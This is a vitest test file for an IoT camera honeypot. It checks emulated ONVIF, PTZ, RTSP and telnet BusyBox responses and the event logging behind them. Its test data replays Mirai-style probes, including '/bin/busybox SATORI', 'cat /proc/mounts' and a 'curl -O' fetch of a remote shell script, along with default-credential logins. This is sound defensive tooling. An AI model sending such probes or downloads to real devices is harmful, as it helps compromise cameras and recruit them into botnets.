/**
 * The vendor dialects one by one: ONVIF with WS-Security digests, Hikvision/Foscam/Axis PTZ,
 * RTSP Digest usernames and a slow RTSP head, the telnet shell's answers. Each answer and each
 * recorded event is checked.
 */
import { createHash, randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type RunningHoneypot, startHoneypot } from '../../src/honeypot/index.js';
import { freshStore, type TestStore } from '../helpers/db.js';
import { httpReq, RawClient, soap } from './simulator.js';

function digestSoap(op: string, user: string, password: string): string {
  const nonce = randomBytes(16);
  const created = '2026-11-25T22:00:00Z';
  const digest = createHash('sha1')
    .update(Buffer.concat([nonce, Buffer.from(created + password)]))
    .digest('base64');
  return `<?xml version="1.0"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Header><wsse:Security><wsse:UsernameToken><wsse:Username>${user}</wsse:Username><wsse:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordDigest">${digest}</wsse:Password><wsse:Nonce EncodingType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#Base64Binary">${nonce.toString('base64')}</wsse:Nonce><wsu:Created>${created}</wsu:Created></wsse:UsernameToken></wsse:Security></s:Header><s:Body><tds:${op} xmlns:tds="http://www.onvif.org/ver10/device/wsdl"/></s:Body></s:Envelope>`;
}

describe('camera protocols', () => {
  let t: TestStore;
  let hp: RunningHoneypot;
  beforeAll(async () => {
    t = await freshStore('sqlite');
    hp = await startHoneypot({
      store: t.store,
      ports: { http: 0, rtsp: 0, telnet: 0, onvif: 0 },
      auth: 'weak',
      idleMs: 1500,
    });
  });
  afterAll(async () => {
    await hp?.stop();
    await t?.cleanup();
  });

  async function events(ip: string) {
    await hp.recorder!.flush();
    const rows = await t.store.db
      .selectFrom('honeypot_event')
      .select(['eventid', 'protocol', 'username', 'password', 'summary'])
      .where('src_ip', '=', ip)
      .where('eventid', 'not in', ['session.connect', 'session.closed'])
      .orderBy('id')
      .execute();
    return rows.map((r) => ({ ...r, summary: JSON.parse(r.summary) as Record<string, unknown> }));
  }

  it('ONVIF: date unauthenticated, device information with a checked digest', async () => {
    const ip = '127.0.0.121';
    const post = (body: string) =>
      httpReq(ip, hp.ports.onvif, '/onvif/device_service', {
        method: 'POST',
        body,
        headers: { 'Content-Type': 'application/soap+xml' },
      });
    const date = await post(soap('tds:GetSystemDateAndTime'));
    expect(date.status).toBe(200);
    expect(date.body.toString()).toContain('<tt:UTCDateTime>');
    const anon = await post(soap('tds:GetDeviceInformation'));
    expect(anon.status).toBe(400);
    expect(anon.body.toString()).toContain('Sender not Authorized');
    const wrong = await post(digestSoap('GetDeviceInformation', 'admin', 'admin123'));
    expect(wrong.status).toBe(400);
    const right = await post(digestSoap('GetDeviceInformation', 'admin', 'admin'));
    expect(right.status).toBe(200);
    expect(right.body.toString()).toMatch(/<tds:Manufacturer>IPCAM<\/tds:Manufacturer>/);
    const garbage = await post('this is not soap');
    expect(garbage.status).toBe(400);
    const ev = await events(ip);
    const logins = ev.filter((e) => e.eventid.startsWith('login.'));
    expect(logins.map((e) => [e.eventid, e.username, e.password])).toEqual([
      ['login.failed', 'admin', null], // a wrong digest hides the password
      ['login.success', 'admin', 'admin'], // a right one names it
    ]);
    expect(ev.filter((e) => e.eventid === 'input.invalid').map((e) => e.summary.reason)).toEqual([
      'not a SOAP request',
    ]);
  });

  it('PTZ in Hikvision, Foscam and Axis dialects', async () => {
    const ip = '127.0.0.122';
    const hik = await httpReq(ip, hp.ports.http, '/ISAPI/PTZCtrl/channels/1/continuous', {
      method: 'PUT',
      auth: 'admin:admin',
      body: '<PTZData><pan>60</pan><tilt>-30</tilt></PTZData>',
    });
    expect(hik.status).toBe(200);
    expect(hik.body.toString()).toContain('<statusString>OK</statusString>');
    expect(
      (await httpReq(ip, hp.ports.http, '/decoder_control.cgi?command=4&user=admin&pwd=admin'))
        .status,
    ).toBe(200);
    expect(
      (await httpReq(ip, hp.ports.http, '/axis-cgi/com/ptz.cgi?move=left', { auth: 'admin:admin' }))
        .status,
    ).toBe(200);
    expect(
      (await httpReq(ip, hp.ports.http, '/axis-cgi/com/ptz.cgi?move=right', { auth: 'root:pass' }))
        .status,
    ).toBe(401);
    const ptz = (await events(ip)).filter((e) => e.eventid === 'ptz.command');
    expect(ptz.map((e) => `${e.summary.vendor}:${e.summary.action}`)).toEqual([
      'hikvision:continuous:pan=60,tilt=-30',
      'foscam:left',
      'axis:left',
    ]);
  });

  it('RTSP: records Digest usernames and cuts a slowly dribbled head', async () => {
    const ip = '127.0.0.123';
    const c = new RawClient(ip, hp.ports.rtsp);
    await c.ready;
    c.send(
      'DESCRIBE rtsp://127.0.0.1/11 RTSP/1.0\r\nCSeq: 7\r\nAuthorization: Digest username="admin", realm="IPCAM", nonce="1", uri="rtsp://127.0.0.1/11", response="00"\r\n\r\n',
    );
    await c.waitFor(/RTSP\/1\.0 401 Unauthorized\r\nCSeq: 7/);
    const head = 'OPTIONS rtsp://127.0.0.1/ RTSP/1.0\r\nCSeq: 8\r\n';
    for (let i = 0; i < head.length && !c.closed; i++) {
      c.send(head[i]!);
      await new Promise((r) => setTimeout(r, 60));
    }
    await c.waitClosed(5000);
    const ev = await events(ip);
    expect(ev.map((e) => e.eventid)).toEqual(['rtsp.request', 'login.failed', 'input.invalid']);
    expect(ev[1]).toMatchObject({ username: 'admin', password: null });
    expect(ev[2]!.summary.reason).toBe('request timeout (slow client)');
  });

  it('telnet: the Mirai probe sequence gets BusyBox answers', async () => {
    const ip = '127.0.0.124';
    const c = new RawClient(ip, hp.ports.telnet);
    await c.ready;
    await c.waitFor(/IPCAM login: $/);
    c.send('admin\r\n');
    await c.waitFor(/Password: $/);
    c.send('admin\r\n');
    await c.waitFor(/# $/);
    const ask = async (cmd: string) => {
      const mark = c.text().length;
      c.send(`${cmd}\r\n`);
      const out = await c.waitFor(/# $/, 5000, mark);
      return out.slice(0, out.lastIndexOf('['));
    };
    // The server said WILL ECHO: the typed command comes back before its output.
    expect(await ask('/bin/busybox SATORI')).toBe(
      '/bin/busybox SATORI\r\nSATORI: applet not found\r\n',
    );
    expect(await ask('cat /proc/mounts')).toContain('/dev/root / squashfs');
    expect(await ask('uname -a')).toContain('armv5tejl');
    expect(await ask('curl -O http://203.0.113.9/x.sh')).toContain('download timed out');
    await c.close();
    const ev = await events(ip);
    expect(ev.filter((e) => e.eventid === 'download.attempt').map((e) => e.summary)).toEqual([
      { tool: 'curl', url: 'http://203.0.113.9/x.sh', executed: false },
    ]);
  });
});

describe('open-proxy and upgrade probes', () => {
  it('records CONNECT and Upgrade requests and refuses them', async () => {
    const t = await freshStore('sqlite');
    const hp = await startHoneypot({
      store: t.store,
      ports: { http: 0, rtsp: 0, telnet: 0, onvif: 0 },
    });
    try {
      for (const req of [
        'CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n',
        'GET /ws HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n',
      ]) {
        const c = new RawClient('127.0.0.125', hp.ports.http);
        await c.ready;
        c.send(req);
        await c.waitFor(/^HTTP\/1\.1 405/);
        await c.waitClosed();
      }
      await hp.recorder!.flush();
      const rows = await t.store.db
        .selectFrom('honeypot_event')
        .select(['summary'])
        .where('eventid', '=', 'http.request')
        .execute();
      expect(rows.map((r) => JSON.parse(r.summary))).toMatchObject([
        { method: 'CONNECT', path: 'example.com:443', kind: 'proxy' },
        { method: 'GET', path: '/ws', kind: 'upgrade' },
      ]);
    } finally {
      await hp.stop();
      await t.cleanup();
    }
  });
});
